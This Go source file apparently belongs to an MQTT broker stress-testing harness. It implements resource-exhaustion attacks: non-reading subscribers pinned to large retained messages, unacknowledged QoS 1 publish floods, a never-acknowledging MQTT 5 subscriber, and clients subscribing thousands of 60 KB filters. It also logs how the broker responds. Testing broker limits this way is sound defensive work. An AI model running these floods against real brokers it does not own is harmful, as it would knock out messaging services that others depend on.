package main

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"strings"
	"time"
)

// The attacks after CONNECT: clients that make the broker hold messages,
// acknowledgements or subscriptions for them.

const (
	retainedMessages = 50
	retainedPayload  = 1_000_000 // a 1 MiB packet limit includes the header
	deafSubscribers  = 20
	floodPublishers  = 5
	floodDrainers    = 3 // the first floodDrainers publishers read their PUBACKs
	floodPayload     = 10_000
	floodTopic       = "ret/flood"
	bigSubClients    = 20
	bigSubFilters    = 1000
	bigSubFilterLen  = 60_000
	bigSubPerPacket  = 15 // 15 filters of 60 KB: ~900 KB a SUBSCRIBE
)

// runRetained keeps deafSubscribers MQTT 3.1.1 clients subscribed at QoS 1
// to ret/#, where seedRetained stored the retained messages, that never
// read a byte.
func runRetained(ctx context.Context, env *attackEnv, st *attackStats) {
	for i := range deafSubscribers {
		connect := connectPacket(v311, fmt.Sprintf("hostile-deaf-%d", i), 0, nil, "", "")
		subscribe := subscribePacket(v311, 1, 1, "ret/#")
		env.wg.Go(func() {
			env.reconnect(ctx, env.defaultAddr, st, func(ctx context.Context, c *budgetConn) error {
				if err := st.write(c, append(connect, subscribe...)); err != nil {
					return err
				}
				st.packets.Add(1)
				// Never read. A PINGREQ every 5 s finds out whether the broker
				// closed the connection; a write that times out is not that.
				for {
					sleep(ctx, 5*time.Second)
					if ctx.Err() != nil {
						return nil
					}
					_ = c.SetWriteDeadline(time.Now().Add(5 * time.Second))
					if err := st.write(c, pingreq); err != nil && !isTimeout(err) {
						return err
					}
				}
			})
		})
	}
}

// seedRetained publishes retainedMessages retained messages of
// retainedPayload bytes on ret/<i> at QoS 1 and waits for their PUBACKs.
func seedRetained(ctx context.Context, env *attackEnv, st *attackStats) error {
	c, err := env.sockets.dial(ctx, env.defaultAddr)
	if err != nil {
		return err
	}
	defer context.AfterFunc(ctx, c.abort)()
	defer c.abort()
	st.conns.Add(1)
	_ = c.SetDeadline(time.Now().Add(60 * time.Second))
	r := bufio.NewReader(c)
	if err := st.write(c, connectPacket(v311, "hostile-seed", 60, nil, "", "")); err != nil {
		return err
	}
	if first, body, _, err := readFrame(r, 4); err != nil || first>>4 != typeConnack || len(body) < 2 || body[1] != 0 {
		return fmt.Errorf("no CONNACK 0 (packet 0x%02x %x): %v", first, body, err)
	}
	payload := make([]byte, retainedPayload)
	for i := range payload {
		payload[i] = byte('a' + i%26)
	}
	for i := range retainedMessages {
		p := publishPacket(v311, fmt.Sprintf("ret/%d", i), 1, true, uint16(i+1), payload)
		if err := st.write(c, p); err != nil {
			return err
		}
		st.packets.Add(1)
	}
	for range retainedMessages {
		first, body, size, err := readFrame(r, 4)
		st.bytesIn.Add(int64(size))
		if err != nil {
			return err
		}
		if first>>4 != typePuback || len(body) < 2 {
			return fmt.Errorf("packet 0x%02x where a PUBACK was due", first)
		}
	}
	st.count(fmt.Sprintf("%d retained stored", retainedMessages))
	return nil
}

// runFlood keeps floodPublishers clients (3.1.1 and 5 alternately)
// publishing floodPayload bytes at QoS 1 to floodTopic, env.floodRate
// messages a second each (or as fast as the socket takes them), without
// waiting for a PUBACK: the first floodDrainers read and drop their
// PUBACKs, the others never read them.
func runFlood(ctx context.Context, env *attackEnv, st *attackStats) {
	payload := make([]byte, floodPayload)
	for i := range floodPublishers {
		version := v311
		if i%2 == 1 {
			version = v5
		}
		connect := connectPacket(version, fmt.Sprintf("hostile-flood-%d", i), 0, nil, "", "")
		pkt := publishPacket(version, floodTopic, 1, false, 1, payload)
		idAt := len(pkt) - len(payload) - 2 // the packet id, before the payload
		if version == v5 {
			idAt-- // and the empty properties
		}
		limit := pacer(env.floodRate) // one per publisher, across its connections
		env.wg.Go(func() {
			env.reconnect(ctx, env.defaultAddr, st, func(ctx context.Context, c *budgetConn) error {
				if i < floodDrainers {
					env.wg.Go(func() { drain(c, st, countDisconnect(st)) })
				}
				if err := st.write(c, connect); err != nil {
					return err
				}
				p := pkt
				for id := uint16(1); ; id++ {
					if id == 0 {
						id = 1
					}
					if err := pace(ctx, limit); err != nil {
						return err
					}
					p[idAt], p[idAt+1] = byte(id>>8), byte(id)
					if err := st.write(c, p); err != nil {
						return err
					}
					st.packets.Add(1)
				}
			})
		})
	}
}

// runNoAck keeps one MQTT 5 subscriber to # with Receive Maximum 2 that
// reads every packet and acknowledges none.
func runNoAck(ctx context.Context, env *attackEnv, st *attackStats) {
	connect := connectPacket(v5, "hostile-noack", 0, []byte{0x21, 0x00, 0x02}, "", "")
	subscribe := subscribePacket(v5, 1, 1, "#")
	env.wg.Go(func() {
		env.reconnect(ctx, env.defaultAddr, st, func(ctx context.Context, c *budgetConn) error {
			if err := st.write(c, append(connect, subscribe...)); err != nil {
				return err
			}
			return drain(c, st, func(first byte, _ []byte) {
				if first>>4 == typePublish {
					st.packets.Add(1)
				}
			})
		})
	})
}

// runBigSubs makes bigSubClients clients each subscribe bigSubFilters
// distinct filters of bigSubFilterLen bytes, bigSubPerPacket to a
// SUBSCRIBE and env.bigSubsRate SUBSCRIBEs a second (or back to back),
// then stay connected.
func runBigSubs(ctx context.Context, env *attackEnv, st *attackStats) {
	pad := strings.Repeat("x", bigSubFilterLen)
	for w := range bigSubClients {
		connect := connectPacket(v311, fmt.Sprintf("hostile-subs-%d", w), 0, nil, "", "")
		limit := pacer(env.bigSubsRate) // one per client, across its connections
		env.wg.Go(func() {
			env.reconnect(ctx, env.defaultAddr, st, func(ctx context.Context, c *budgetConn) error {
				drained := make(chan error, 1)
				env.wg.Go(func() {
					drained <- drain(c, st, func(first byte, body []byte) {
						if first>>4 != typeSuback || len(body) < 2 {
							return
						}
						for _, code := range body[2:] {
							if code < 0x80 {
								st.count("suback granted")
							} else {
								st.count(fmt.Sprintf("suback 0x%02x", code))
							}
						}
					})
				})
				if err := st.write(c, connect); err != nil {
					return err
				}
				var buf []byte
				for from := 0; from < bigSubFilters; from += bigSubPerPacket {
					if err := pace(ctx, limit); err != nil {
						return err
					}
					buf = appendBigSubscribe(buf[:0], w, from, min(bigSubPerPacket, bigSubFilters-from), pad)
					if err := st.write(c, buf); err != nil {
						return err
					}
					st.packets.Add(1)
				}
				select {
				case <-ctx.Done():
					return nil
				case err := <-drained:
					return err
				}
			})
		})
	}
}

// appendBigSubscribe appends a 3.1.1 SUBSCRIBE of n filters of
// bigSubFilterLen bytes, "big/<worker>/<index>/xxx...", at QoS 0.
func appendBigSubscribe(dst []byte, worker, from, n int, pad string) []byte {
	dst = append(dst, typeSubscribe<<4|0x02)
	dst = appendVarint(dst, 2+n*(2+bigSubFilterLen+1))
	id := uint16(from/bigSubPerPacket + 1)
	dst = append(dst, byte(id>>8), byte(id))
	for i := from; i < from+n; i++ {
		prefix := fmt.Sprintf("big/%d/%d/", worker, i)
		dst = append(dst, byte(bigSubFilterLen>>8), byte(bigSubFilterLen&0xFF))
		dst = append(dst, prefix...)
		dst = append(dst, pad[:bigSubFilterLen-len(prefix)]...)
		dst = append(dst, 0)
	}
	return dst
}

// countDisconnect returns a drain callback that counts the broker's
// DISCONNECTs by reason code (MQTT 5; a 3.1.1 connection just closes).
func countDisconnect(st *attackStats) func(first byte, body []byte) {
	return func(first byte, body []byte) {
		if first>>4 != typeDisconnect {
			return
		}
		code := byte(0)
		if len(body) > 0 {
			code = body[0]
		}
		st.count(fmt.Sprintf("disconnect 0x%02x", code))
	}
}

// drain reads packets from c until it fails, passing each one's first
// byte and first 64 body bytes to seen (if not nil).
func drain(c *budgetConn, st *attackStats, seen func(first byte, body []byte)) error {
	r := bufio.NewReaderSize(c, 64<<10)
	for {
		first, body, size, err := readFrame(r, 64)
		st.bytesIn.Add(int64(size))
		if err != nil {
			if errors.Is(err, errMalformed) {
				st.count("malformed packet from broker")
			}
			return err
		}
		if seen != nil {
			seen(first, body)
		}
	}
}
